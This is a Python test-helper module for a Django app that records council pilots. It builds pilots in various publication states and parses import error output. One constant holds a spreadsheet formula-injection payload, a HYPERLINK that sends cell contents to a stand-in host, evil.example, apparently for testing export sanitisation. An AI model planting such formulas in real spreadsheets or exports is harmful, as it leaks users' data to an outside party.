"""Pilots in the states the open-data tests need."""

import datetime as dt

from django.utils import timezone

from pilotbook.pilots import services
from pilotbook.pilots.choices import Status
from tests.factories import LESSONS, make_pilot

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the result")'


def published(council, user, visibility="public", title="Clearer arrears letter", **plan):
    return make_pilot(council, user, status=Status.PUBLISHED, visibility=visibility, title=title, **plan)


def embargoed(council, user, visibility="public", title="Embargoed arrears letter", **plan):
    pilot = make_pilot(council, user, status=Status.RESULTS_RECORDED, visibility=visibility, title=title, **plan)
    services.pilot_publish(pilot=pilot, user=user, lessons=LESSONS,
                           embargo_until=timezone.localdate() + dt.timedelta(days=30))
    pilot.refresh_from_db()
    return pilot


def every_kind(home_council, officer):
    """One pilot of each kind that matters for access: (name, pilot)."""
    return {
        "public": published(home_council, officer, title="Public arrears letter"),
        "anonymous": published(home_council, officer, visibility="public_anonymous", title="Withheld arrears letter"),
        "councils": published(home_council, officer, visibility="councils", title="Councils-only arrears letter"),
        "embargoed": embargoed(home_council, officer),
        "draft": make_pilot(home_council, officer, visibility="public", title="Draft arrears letter"),
        "running": make_pilot(home_council, officer, status=Status.RUNNING, visibility="public",
                              title="Running arrears letter"),
    }


def import_problems(stderr: str) -> list[str]:
    """The problems `pilotbook import` printed, each on its own line as `pilotbook import: problem`."""
    lines = stderr.strip().splitlines()
    assert all(line.startswith("pilotbook import: ") for line in lines), lines
    return [line.removeprefix("pilotbook import: ") for line in lines]
